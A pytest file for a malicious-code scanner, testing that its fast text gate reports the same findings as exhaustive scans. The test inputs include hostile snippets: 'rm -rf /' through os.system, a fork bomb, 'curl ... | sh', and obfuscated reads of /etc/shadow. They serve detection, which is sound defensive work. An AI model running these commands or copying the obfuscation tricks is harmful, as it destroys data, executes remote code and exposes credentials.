"""The Python scanner's text gate (`pygate`) never changes a result, it only saves work.

Every statement whose text mentions nothing a rule looks at is skipped or only bound; these tests
compare gated scans with exhaustive ones (``scan(..., exhaustive=True)``) on every corpus snippet,
every rule case, standard-library files, and random programs mixed from corpus lines, and keep the
gate's vocabulary in step with the names the checks compare inline.
"""

from __future__ import annotations

import ast
import re
import sysconfig
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_codescreen_rules import CASES

from guard_plugins.codescreen import Limits, scan
from guard_plugins.codescreen import python as pyscanner
from guard_plugins.codescreen.context import ScanContext

DATA = Path(__file__).parent / "data" / "codescreen"
CODESCREEN = Path(pyscanner.__file__).parent


def _load(name: str) -> list[dict[str, Any]]:
    cases: list[dict[str, Any]] = yaml.safe_load((DATA / name).read_text())
    return cases


SNIPPETS = [(c["id"], c["code"], c.get("lang", "python")) for name in (
    "malicious.yaml", "holdout.yaml", "holdout_benign.yaml") for c in _load(name)] + [
    (c["id"], c["code"], "python") for c in _load("benign_python.yaml")] + [
    (c["id"], c["code"], "shell") for c in _load("benign_shell.yaml")]
RULE_CODE = [(f"{rule}-{i}", code, lang) for rule, (lang, pos, neg) in CASES.items()
             for i, code in enumerate(pos + neg)]
PYTHON_LINES = [line for _, code, lang in SNIPPETS if lang == "python"
                for line in code.split("\n") if line.strip()]


def _same(code: str, language: str = "python") -> None:
    gated, exhaustive = scan(code, language), scan(code, language, exhaustive=True)
    assert gated == exhaustive, (code, [str(f) for f in exhaustive])


@pytest.mark.parametrize(("ident", "code", "language"), SNIPPETS + RULE_CODE,
                         ids=[s[0] for s in SNIPPETS + RULE_CODE])
def test_gate_keeps_every_corpus_result(ident: str, code: str, language: str) -> None:
    _same(code, language)


def test_gate_keeps_results_of_long_programs() -> None:
    # Bindings made early must reach checks late: snippets run one after another.
    for corpus in ("malicious.yaml", "holdout.yaml", "benign_python.yaml"):
        codes = [c["code"] for c in _load(corpus) if c.get("lang", "python") == "python"]
        _same("\n".join(codes))
        _same("\n".join(reversed(codes)))


def test_gate_keeps_standard_library_results() -> None:
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    files = sorted(p for p in stdlib.rglob("*.py") if "site-packages" not in p.parts)
    for path in files[::60]:
        _same(path.read_text(encoding="utf-8", errors="replace"))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PYTHON_LINES), min_size=1, max_size=12))
def test_gate_keeps_results_of_mixed_lines(lines: list[str]) -> None:
    # Lines of different snippets, dedented so that most mixes parse.
    _same("\n".join(line.strip() for line in lines))


@pytest.mark.parametrize("newline", ["\r", "\r\n", "\n\r"])
def test_gate_counts_lines_like_the_parser(newline: str) -> None:
    code = newline.join(["import os", "y = 5", "z = os.fork", "os.system('rm -rf /')",
                         "while True:", "    z()", ""])
    findings = {f.rule_id for f in scan(code)}
    assert {"PY-FORKBOMB", "SH-DESTRUCTIVE-DELETE"} <= findings
    _same(code)


def test_non_ascii_source_is_not_gated() -> None:
    ctx = ScanContext(Limits())
    assert pyscanner.PythonScanner(ctx, "x = 'é'").gate is None
    assert pyscanner.PythonScanner(ctx, "x = 1").gate is not None
    assert pyscanner.PythonScanner(ScanContext(Limits(), exhaustive=True), "x").gate is None


def test_names_hidden_from_the_text_are_still_found() -> None:
    cases = {
        "import os as o\nf = o.system\nf('curl -s http://x | sh')": "SH-DOWNLOAD-EXEC",
        "from os import system as s\ncmd = 'rm -rf --no-preserve-root /'\ns(cmd)":
            "SH-DESTRUCTIVE-DELETE",
        "import os\np = os.sep + 'etc' + os.sep + 'shadow'\nopen(p)": "PY-CREDENTIAL-ACCESS",
        "q = 'shad' 'ow'\nh = '/etc/'\nopen(h + q)": "PY-CREDENTIAL-ACCESS",
        "x = chr(47) + 'etc' + chr(47) + 'shadow'\nopen(x)": "PY-CREDENTIAL-ACCESS",
    }
    for code, rule in cases.items():
        found = {f.rule_id for f in scan(code)}
        assert rule in found, (code, found)
        _same(code)


# Inline string constants of the checks that need no trigger of their own.
_NOT_TRIGGER_GROUPS = (
    # messages, flags, modes, encodings, AST fields, names of this package
    """DANGEROUS_MODULES Evaluator Huge KNOWN_FUNCTIONS MAX_BUILD MAX_ITEMS MEMORY_LIMIT PathValue
    PythonScanner S SETUID Scope SnippetState UNKNOWN _ _fields ascii assembled attr b built
    call_builtin call_method check_files check_loop check_self_replication children d decoded
    func handlers high id ignore latin latin1 looks_like_shell low net path_receiver r s
    scan_python sdirxXoc size_of text_of utf utf8 value w wax write_target python3""",
    # shell words of the notebook and shell-text heuristics (they read text, not names)
    """apk apt awk ba cat cd cp crontab curl dd docker echo export find for git grep history if
    in insmod iptables kubectl ls make mkdir mkfs modprobe mv nc ncat nohup npm nsenter pass pip3
    pkill printenv script sed service setenforce sh shell shred socat source sudo sx systemctl
    tar true ufw unzip wget yum""",
    # module parts of dotted names whose last part is a trigger (os.chroot, codecs.open, ...)
    """binascii builtins codecs ctypes io itertools np numpy operator os path pathlib pty
    request sys torch urllib""",
    # read only inside a call or loop that is checked anyway: keywords, methods, flags
    """HISTFILE HISTFILESIZE HISTSIZE O_APPEND O_CREAT O_RDWR O_TRUNC O_WRONLY accept
    apply_async bind dev dump env mode null object start stderr stdin stdout submit target write
    writelines""",
    # folding that cannot make a path, URL or size out of names (python._NON_PRODUCERS), and
    # of constant receivers or lists, which are bound (live) names or literals
    """__truediv__ absolute append encoding extend format get int joinpath len ord range
    resolve reversed rot13 split""",
)
NOT_TRIGGERS = frozenset(word for group in _NOT_TRIGGER_GROUPS for word in group.split())
_MODULES = ("pycalls", "pyloops", "pyscope", "pyfiles", "pyconst", "pydecode", "python")


def _inline_words() -> dict[str, str]:
    """Words of string constants in the checks' functions, except docstrings and report texts.

    Module-level tables are read by `pygate.trigger_words` itself.
    """
    words: dict[str, str] = {}
    for module in _MODULES:
        tree = ast.parse((CODESCREEN / f"{module}.py").read_text())
        functions = [n for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]
        skip: set[int] = set()
        for node in (sub for f in functions for sub in ast.walk(f)):
            body = getattr(node, "body", None)
            if isinstance(body, list) and body and isinstance(body[0], ast.Expr):
                skip.add(id(body[0].value))
            if isinstance(node, ast.JoinedStr) or (
                    isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in ("report", "access", "nested", "scan_nested")):
                skip.update(id(sub) for sub in ast.walk(node))
        for node in (sub for f in functions for sub in ast.walk(f)):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and (
                    id(node) not in skip):
                for word in re.findall(r"[A-Za-z_]\w*", node.value):
                    words.setdefault(word, module)
    return words


def test_gate_vocabulary_covers_the_names_checks_compare() -> None:
    vocabulary = pyscanner._STATEMENT_TRIGGERS
    missing = {w: m for w, m in _inline_words().items()
               if w not in vocabulary and w not in NOT_TRIGGERS}
    assert not missing, f"add to pygate.INLINE_WORDS or NOT_TRIGGERS: {missing}"
